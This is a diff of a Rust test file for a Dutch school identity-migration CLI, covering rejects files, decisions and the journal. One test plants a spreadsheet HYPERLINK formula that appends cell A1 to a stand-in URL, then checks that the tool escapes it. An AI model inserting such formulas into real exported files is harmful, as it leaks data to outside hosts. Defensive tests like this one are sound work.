@@ -1,23 +1,29 @@
 //! Decisions on held rows, in the file of rejects that comes back.
 
-use std::fs;
-use std::path::Path;
+use std::ops::Deref;
 
-use assert_cmd::Command;
 use serde_json::{Value, json};
-use tempfile::TempDir;
 
-const HEADER: &str = "Voornaam,Tussenvoegsel,Achternaam,Postcode,Huisnummer,Oude identiteit (was),Nieuwe identiteit (wordt)\n";
+use crate::support::desk::{Desk, VO as HEADER};
+
 const MOVE: &str = "sector = \"vo\"\n[school]\nbrin = \"99ZZ00\"\nname = \"Testschool\"\n[from]\ndelivery = \"elf\"\nidp = \"magister\"\nrealm = \
                     \"oud\"\n[to]\ndelivery = \"elf\"\nidp = \"azure-ad\"\nrealm = \"nieuw\"\n";
 
 /// A folder with a move, a list of four rows and a store in which the new identities of two of them
 /// are taken already.
-struct Desk(TempDir, &'static str);
+struct Publisher(Desk, &'static str);
 
-impl Desk {
+impl Deref for Publisher {
+    type Target = Desk;
+
+    fn deref(&self) -> &Desk {
+        &self.0
+    }
+}
+
+impl Publisher {
     fn new(store: &'static str) -> Self {
-        let desk = Self(tempfile::tempdir().unwrap(), store);
+        let desk = Self(Desk::new(&["--lang", "en", "--quiet"]), store);
         desk.write("move.toml", MOVE);
         let row =
             |nth: u32| format!("Naam{nth},,Achternaam{nth},1234 AB,{nth},{nth}@oud,{nth}@nieuw\n");
@@ -32,40 +38,9 @@ impl Desk {
         desk
     }
 
-    fn path(&self) -> &Path {
-        self.0.path()
-    }
-
-    fn write(&self, name: &str, text: &str) {
-        fs::write(self.path().join(name), text).unwrap();
-    }
-
-    fn read(&self, name: &str) -> String {
-        fs::read_to_string(self.path().join(name)).unwrap()
-    }
-
-    fn run(&self, words: &[&str], code: i32) -> String {
-        let mut command = Command::cargo_bin("waswordt").unwrap();
-        let output = command
-            .args(words)
-            .args(["--lang", "en", "--quiet"])
-            .current_dir(self.path())
-            .output()
-            .unwrap();
-        let out = String::from_utf8(output.stdout).unwrap();
-        assert_eq!(
-            output.status.code(),
-            Some(code),
-            "{words:?}\n{out}{}",
-            String::from_utf8_lossy(&output.stderr)
-        );
-        out
-    }
-
     fn apply(&self, options: &[&str], code: i32) -> Value {
-        let words =
-            ["apply", "list.csv", "--move", "move.toml", "--store", self.1, "--format", "json"];
-        serde_json::from_str(&self.run(&[&words, options].concat(), code)).unwrap()
+        let words = ["apply", "list.csv", "--move", "move.toml", "--store", self.1];
+        self.json(&[&words, options].concat(), code)
     }
 
     /// Applies what can be applied, and returns the lines of the rejects.
@@ -85,27 +60,26 @@ impl Desk {
             format!("{rest}{word},{row}")
         };
         let rows: Vec<String> = lines[1..].iter().zip(words).map(decided).collect();
-        self.write("decisions.csv", &format!("{}\n{}\n", lines[0], rows.join("\n")));
+        self.write("decisions.csv", format!("{}\n{}\n", lines[0], rows.join("\n")));
     }
 
     fn runs(&self) -> Vec<Value> {
-        let log = self.run(&["log", "--store", self.1, "--format", "json"], 0);
-        serde_json::from_str::<Value>(&log).unwrap()["runs"].as_array().unwrap().clone()
+        self.json(&["log", "--store", self.1], 0)["runs"].as_array().unwrap().clone()
     }
 }
 
 #[test]
 fn the_rejects_have_room_for_a_decision_and_say_which_row_they_are() {
-    let lines = Desk::new("store.db").hold();
+    let lines = Publisher::new("store.db").hold();
     assert!(lines[0].ends_with(",Mark,Reason,Decision,Row"), "{}", lines[0]);
     assert!(lines[1].ends_with(",,3") && lines[2].ends_with(",,4"), "{lines:?}");
 }
 
 #[test]
 fn a_formula_in_a_name_is_text_in_the_rejects_and_known_again_in_the_decisions() {
-    let desk = Desk::new("store.db");
+    let desk = Publisher::new("store.db");
     let live = r#""=HYPERLINK(""https://x.example/""&A1,""klik"")""#;
-    desk.write("list.csv", &desk.read("list.csv").replace("Naam2", live));
+    desk.write("list.csv", desk.read("list.csv").replace("Naam2", live));
     let lines = desk.hold();
     assert!(
         lines[1].starts_with(r#""=""=HYPERLINK(""""https://x.example/""""&A1,""""klik"""")""","#),
@@ -120,7 +94,7 @@ fn a_formula_in_a_name_is_text_in_the_rejects_and_known_again_in_the_decisions()
 #[test]
 fn every_decision_is_noted_in_the_journal_once_without_a_name_or_an_identity() {
     for store in ["store.db", "keyrings.csv"] {
-        let desk = Desk::new(store);
+        let desk = Publisher::new(store);
         let lines = desk.hold();
         desk.decide(&lines, ["skip", "overslaan"]);
         let before = desk.runs().len();
@@ -151,10 +125,10 @@ fn every_decision_is_noted_in_the_journal_once_without_a_name_or_an_identity() {
 
 #[test]
 fn a_decision_about_a_row_that_nothing_holds_refuses_the_run() {
-    let desk = Desk::new("store.db");
+    let desk = Publisher::new("store.db");
     let lines = desk.hold();
     let linked = "Naam1,,Achternaam1,1234 AB,1,1@oud,1@nieuw,,x,link,2";
-    desk.write("decisions.csv", &format!("{}\n{linked}\n", lines[0]));
+    desk.write("decisions.csv", format!("{}\n{linked}\n", lines[0]));
     let refused = desk.apply(&["--decisions", "decisions.csv"], 1);
     assert_eq!(
         (&refused["outcome"], &refused["refused_because"]),
@@ -165,12 +139,12 @@ fn a_decision_about_a_row_that_nothing_holds_refuses_the_run() {
 #[test]
 fn a_decision_holds_only_for_the_profile_that_it_was_made_about() {
     for store in ["store.db", "keyrings.csv"] {
-        let desk = Desk::new(store);
+        let desk = Publisher::new(store);
         let lines = desk.hold();
         desk.decide(&lines, ["take-over", ""]);
         // Meanwhile 2@nieuw was given up, and issued to somebody else.
         let export = desk.run(&["keyrings", "export", "--store", store], 0);
-        desk.write("export.csv", &export.replace("Q2,2@nieuw", "Q7,2@nieuw"));
+        desk.write("export.csv", export.replace("Q2,2@nieuw", "Q7,2@nieuw"));
         desk.run(&["keyrings", "sync", "export.csv", "--store", store, "--max-share", "100"], 0);
         let before = desk.run(&["keyrings", "export", "--store", store], 0);
         assert!(before.contains("Q7,2@nieuw"), "{before}");
@@ -208,11 +182,11 @@ fn a_decision_holds_only_for_the_profile_that_it_was_made_about() {
 
 #[test]
 fn a_decision_holds_only_for_the_person_whom_the_profile_named() {
-    let desk = Desk::new("keyrings.csv");
+    let desk = Publisher::new("keyrings.csv");
     let named = |last_name: &str| {
         let header = "profile_id,identity,first_name,last_name\n";
         let rest = "P1,1@oud,,\nP2,2@oud,,\nP3,3@oud,,\nP4,4@oud,,\nQ2,2@nieuw,,\n";
-        desk.write("keyrings.csv", &format!("{header}{rest}Q3,3@nieuw,{last_name}\n"));
+        desk.write("keyrings.csv", format!("{header}{rest}Q3,3@nieuw,{last_name}\n"));
     };
     named("Naam3,Achternaam3");
     desk.apply(&["--hold", "--dry-run", "--rejects", "held.csv"], 1);
@@ -228,12 +202,12 @@ fn a_decision_holds_only_for_the_person_whom_the_profile_named() {
 
 #[test]
 fn a_mistake_in_the_decisions_is_told_with_its_row_and_changes_nothing() {
-    let desk = Desk::new("store.db");
+    let desk = Publisher::new("store.db");
     let lines = desk.hold();
     let before = desk.run(&["keyrings", "export", "--store", "store.db"], 0);
     let told = |words: [&str; 2], mend: fn(String) -> String| {
         desk.decide(&lines, words);
-        desk.write("decisions.csv", &mend(desk.read("decisions.csv")));
+        desk.write("decisions.csv", mend(desk.read("decisions.csv")));
         desk.apply(&["--decisions", "decisions.csv"], 1)["error"].as_str().unwrap().to_owned()
     };
     let unknown = told(["link", "misschien"], |text| text);
@@ -262,7 +236,7 @@ fn a_mistake_in_the_decisions_is_told_with_its_row_and_changes_nothing() {
 #[test]
 fn only_rows_that_are_decided_of_run_and_the_same_file_again_changes_nothing() {
     for store in ["store.db", "keyrings.csv"] {
-        let desk = Desk::new(store);
+        let desk = Publisher::new(store);
         let lines = {
             desk.apply(&["--hold", "--dry-run", "--rejects", "held.csv"], 1);
             desk.read("held.csv").lines().map(str::to_owned).collect::<Vec<_>>()
